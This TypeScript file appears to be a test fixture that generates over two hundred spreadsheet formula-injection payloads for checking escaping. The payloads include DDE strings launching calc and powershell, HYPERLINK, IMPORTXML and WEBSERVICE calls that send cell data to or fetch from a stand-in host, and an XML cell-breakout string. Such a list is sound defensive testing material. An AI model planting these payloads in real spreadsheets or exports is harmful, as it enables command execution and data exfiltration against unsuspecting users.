// Texts that a careless spreadsheet program takes for formulas, links or markup.

const STARTS = ['=', '+', '-', '@', '\t', '\n', ' =', '|', '%', '"=', "'=", ';=', '\u00A0=', '＝', '\uFEFF=']
const RESTS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"Открыть")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+9)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
  'A1',
  "2+5+cmd|' /C powershell'!'A1'",
  'EXEC("calc")',
  'RTD("x",,"y")',
  'INDIRECT("A1")',
  '\n=1+1',
  '</t></is></c><c r="B2"><f>1+1</f></c>',
]

/** more than two hundred */
export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap((start) => RESTS.map((rest) => `${start}${rest}`))
